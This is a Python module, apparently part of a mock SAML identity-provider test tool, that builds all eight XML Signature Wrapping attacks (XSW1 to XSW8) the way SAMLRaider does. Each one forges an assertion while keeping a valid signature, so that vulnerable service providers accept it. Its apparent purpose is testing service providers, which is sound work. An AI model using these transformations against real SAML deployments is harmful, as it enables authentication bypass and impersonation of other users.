"""XML Signature Wrapping XSW1-XSW8 exactly as SAMLRaider builds them (``helpers/XSWHelpers.java``).

Each keeps a genuine signature and moves what it signed out of the way, so that an SP which verifies one
element and reads another signs in the attacker. SAMLRaider's quirks are reproduced on purpose: every lookup
takes the first match in document order, and XSW7/XSW8 create un-namespaced ``Extensions``/``Object``
elements (``namespaced=True`` emits ``samlp:Extensions``/``ds:Object`` instead).
"""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree

from mock_idp.attacks.common import (
    EVIL_ASSERTION_ID,
    EVIL_RESPONSE_ID,
    clone_without_signature,
    first_assertion,
    first_signature,
    make_evil,
)
from mock_idp.attacks.dsig import ds, remove
from mock_idp.op_registry import OpContext, op
from saml_xmlns import SAMLP, q


def _xsw1(root: etree._Element, ctx: OpContext, evil: str | None, namespaced: bool) -> None:
    clone = copy.deepcopy(root)
    make_evil(root, ctx, evil)
    remove(first_signature(clone, "XSW1"))
    first_signature(root, "XSW1").append(clone)
    root.set("ID", EVIL_RESPONSE_ID)


def _xsw2(root: etree._Element, ctx: OpContext, evil: str | None, namespaced: bool) -> None:
    clone = copy.deepcopy(root)
    make_evil(root, ctx, evil)
    remove(first_signature(clone, "XSW2"))
    first_signature(root, "XSW2").addprevious(clone)
    root.set("ID", EVIL_RESPONSE_ID)


def _xsw3(root: etree._Element, ctx: OpContext, evil: str | None, namespaced: bool) -> None:
    assertion = first_assertion(root)
    evil_assertion = clone_without_signature(assertion)
    make_evil(evil_assertion, ctx, evil)
    evil_assertion.set("ID", EVIL_ASSERTION_ID)
    assertion.addprevious(evil_assertion)


def _xsw4(root: etree._Element, ctx: OpContext, evil: str | None, namespaced: bool) -> None:
    assertion = first_assertion(root)
    evil_assertion = clone_without_signature(assertion)
    make_evil(evil_assertion, ctx, evil)
    evil_assertion.set("ID", EVIL_ASSERTION_ID)
    root.append(evil_assertion)
    evil_assertion.append(assertion)


def _xsw5(root: etree._Element, ctx: OpContext, evil: str | None, namespaced: bool) -> None:
    evil_assertion = first_assertion(root)
    original = clone_without_signature(evil_assertion)
    make_evil(evil_assertion, ctx, evil)
    root.append(original)
    evil_assertion.set("ID", EVIL_ASSERTION_ID)


def _xsw6(root: etree._Element, ctx: OpContext, evil: str | None, namespaced: bool) -> None:
    evil_assertion = first_assertion(root)
    signature = first_signature(evil_assertion, "XSW6")
    original = clone_without_signature(evil_assertion)
    make_evil(evil_assertion, ctx, evil)
    signature.append(original)
    evil_assertion.set("ID", EVIL_ASSERTION_ID)


def _xsw7(root: etree._Element, ctx: OpContext, evil: str | None, namespaced: bool) -> None:
    assertion = first_assertion(root)
    extensions = etree.Element(q(SAMLP, "Extensions") if namespaced else "Extensions")
    assertion.addprevious(extensions)
    evil_assertion = clone_without_signature(assertion)
    make_evil(evil_assertion, ctx, evil)
    extensions.append(evil_assertion)


def _xsw8(root: etree._Element, ctx: OpContext, evil: str | None, namespaced: bool) -> None:
    evil_assertion = first_assertion(root)
    signature = first_signature(evil_assertion, "XSW8")
    original = clone_without_signature(evil_assertion)
    make_evil(evil_assertion, ctx, evil)
    wrapper = etree.SubElement(signature, ds("Object") if namespaced else "Object")
    wrapper.append(original)


_VARIANTS: dict[int, Callable[[etree._Element, OpContext, str | None, bool], None]] = {
    1: _xsw1,
    2: _xsw2,
    3: _xsw3,
    4: _xsw4,
    5: _xsw5,
    6: _xsw6,
    7: _xsw7,
    8: _xsw8,
}


@op("xsw", stages=("post_sign",))
def xsw(root: etree._Element, ctx: OpContext, variant: int, namespaced: bool = False, evil: str | None = None) -> None:
    """Apply SAMLRaider's XSW``variant`` (1-8); ``namespaced`` only for 7/8; ``evil`` defaults to owner@domain."""
    if variant not in _VARIANTS:
        raise ValueError(f"xsw: variant must be 1-8, got {variant!r}")
    if namespaced and variant not in (7, 8):
        raise ValueError("xsw: namespaced applies to XSW7 (samlp:Extensions) and XSW8 (ds:Object) only")
    _VARIANTS[variant](root, ctx, evil, namespaced)
